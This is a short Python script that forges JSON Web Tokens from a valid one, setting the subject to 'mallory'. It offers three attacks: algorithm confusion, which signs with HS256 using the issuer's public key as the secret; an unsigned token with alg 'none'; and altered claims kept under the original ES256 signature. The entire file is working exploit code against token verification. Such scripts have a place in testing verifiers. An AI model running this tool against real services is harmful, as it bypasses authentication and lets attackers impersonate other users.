"""Forges a token from a good one: python3 forge_token.py HS256|none|ES256 TOKEN PUBLIC_KEY_JWK

HS256: signed with the issuer's public key as if it were a shared secret (RFC 8725 section 2.1). none: not signed. ES256: another
subject under the good one's signature.
"""
import base64
import hashlib
import hmac
import json
import sys


def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decoded(part):
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


algorithm, token, key = sys.argv[1:]
head, payload, signature = token.split(".")
header, claims = decoded(head), decoded(payload)
header["alg"] = algorithm
claims["sub"] = "mallory"
signed = encoded(json.dumps(header).encode()) + "." + encoded(json.dumps(claims).encode())
if algorithm == "HS256":
    signature = encoded(hmac.new(key.encode(), signed.encode(), hashlib.sha256).digest())
elif algorithm == "none":
    signature = ""
print(f"{signed}.{signature}", end="")
